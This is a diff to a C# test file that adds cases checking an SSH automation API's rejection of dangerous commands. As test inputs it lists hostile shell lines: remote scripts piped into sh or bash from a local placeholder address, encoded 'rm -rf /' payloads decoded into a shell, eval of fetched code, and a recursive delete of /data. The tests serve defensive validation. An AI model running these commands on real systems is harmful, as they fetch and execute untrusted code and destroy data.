@@ -267,6 +267,23 @@ public sealed class SshExecutionApiTests(SshNodes nodes) : IAsyncLifetime
         Assert.Equal(0, (await _user.GetApiAsync("/api/v1/automation/ssh/history")).Data.GetProperty("total").GetInt32());
     }
 
+    [Theory]
+    [InlineData("curl -fsSL http://127.0.0.1:9/install.sh | sh", "fetched-to-interpreter")]
+    [InlineData("wget -O- http://127.0.0.1:9/s.sh | bash", "fetched-to-interpreter")]
+    [InlineData("echo cm0gLXJmIC8= | base64 -d | sh", "decoded-to-interpreter")]
+    [InlineData("echo 726d202d7266202f | xxd -r -p | bash", "decoded-to-interpreter")]
+    [InlineData("eval \"$(curl -s http://127.0.0.1:9/x)\"", "generated-code")]
+    [InlineData("sh -c \"$(cat /tmp/cmd)\"", "generated-code")]
+    [InlineData("ls /data | xargs rm -rf", "destructive-runtime-arguments")]
+    public async Task Execute_HiddenOrRunTimeCode_Returns422NamingTheRule(string command, string rule)
+    {
+        var response = await _user.PostJsonAsync("/api/v1/automation/ssh/execute", new { cluster_name = "test", target_nodes = new[] { "node1" }, credential_id = 1, command });
+
+        response.AssertError(HttpStatusCode.UnprocessableEntity);
+        Assert.Contains($"[{rule}]", response.Json.GetProperty("error").GetString(), StringComparison.Ordinal);
+        Assert.Equal(0, (await _user.GetApiAsync("/api/v1/automation/ssh/history")).Data.GetProperty("total").GetInt32());
+    }
+
     [Fact]
     public async Task Execute_PowerActionExplicitlyAllowed_PassesTheGuard()
     {
